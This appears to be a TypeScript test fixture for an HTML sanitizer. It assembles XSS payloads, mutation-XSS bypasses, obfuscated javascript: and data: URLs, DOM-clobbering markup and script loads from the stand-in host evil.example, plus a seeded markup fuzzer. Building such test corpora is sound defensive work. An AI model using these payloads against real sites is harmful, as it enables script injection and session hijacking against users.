/** Known XSS payloads and sanitizer bypasses (SEC-64). Each calls alert or loads another origin. */

const cross = (...parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>(
    (done, part) => done.flatMap((left) => part.map((right) => `${left}${right}`)),
    [''],
  );

const elements = ['<img src=x ', '<svg ', '<video src=x ', '<p ', '<a href=x ', '<details open ', '<iframe '];
const more = ['<body ', '<input autofocus ', '<object data=x ', '<marquee ', '<table ', '<math ', '<x-y '];
const handlers = [
  'onerror=alert(1)>',
  'onload=alert(1)>x',
  'onfocus=alert(1) tabindex=0 autofocus>x',
  'ontoggle=alert(1)>x',
  'onclick=alert(1)>x',
  'style="animation-name:x" onanimationstart=alert(1)>x',
  '/onpointerrawupdate="alert(1)">x',
  'onbegin=alert(1)>x',
];

const colorSchemes = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#x6a;avascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://portal@evil.example/x',
  '/downloadapi/../api/verifyMember/logout',
  '/downloadapi/%2e%2e/api/verifyMember/logout',
  '/downloadapi//evil.example/x',
  '/api/verifyMember/logout',
];
const openings = [
  '<a href="',
  '<img src="',
  '<a data-video href="',
  '<form action="',
  '<iframe src="',
  '<base href="',
];

const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><mi><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><desc><math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import "//evil.example/x.js"</script>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<img srcset="//evil.example/x 2x" src=/downloadapi/x>',
  '<img src=/downloadapi/x usemap=#m><map name=m><area href="javascript:alert(1)"></map>',
  '<picture><source srcset=//evil.example/x></picture>',
  '<video poster=//evil.example/x></video>',
  '<a ping=//evil.example/x href="#/product">x</a>',
  '<a href="#/product" target=_self rel=opener download=x>x</a>',
  '<img name=getElementById id=body src=/downloadapi/x>',
  '<form id=location name=attributes><input name=nodeName><input name=children></form>',
  '<a id=document><a id=document name=cookie href=x>x</a></a>',
  '<p class=article slot=media part=layer is=x-y contenteditable>x</p>',
  '<button formaction="javascript:alert(1)" popovertarget=root>x</button>',
  '<dialog open><p autofocus tabindex=1>x</p></dialog>',
  '<plaintext><script>alert(1)</script>',
];

export const attacks: readonly string[] = [
  ...cross([...elements, ...more], handlers),
  ...cross(openings, colorSchemes, ['">x</a>']),
  ...mutations,
];

const pieces = [
  ...['<', '>', '"', "'", '/', '=', '`', '&lt;', '&#x3c;', '\0', '\u2028', '<!--', '-->', ']]>', '<![CDATA['],
  ...['<svg>', '</svg>', '<math>', '<mtext>', '<mglyph>', '<style>', '</style>', '<table>', '<td>', '<form>'],
  ...[
    '</form>',
    '<p title="',
    '<a href="',
    'javascript:',
    '<img src=',
    ' onerror=alert(1) ',
    ' onload=alert(1)',
  ],
  ...[
    '<script>',
    '</script>',
    'alert(1)',
    '<noscript>',
    '</noscript>',
    '<template>',
    '<select>',
    '<a data-video ',
  ],
];

/** Returns `count` strings of up to `maxPieces` pieces, the same on each run. */
export const randomMarkup = (seed: number, count: number, maxPieces = 12): string[] => {
  let state = seed;
  const whole = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + whole(maxPieces) }, () => pieces[whole(pieces.length)]).join(''),
  );
};
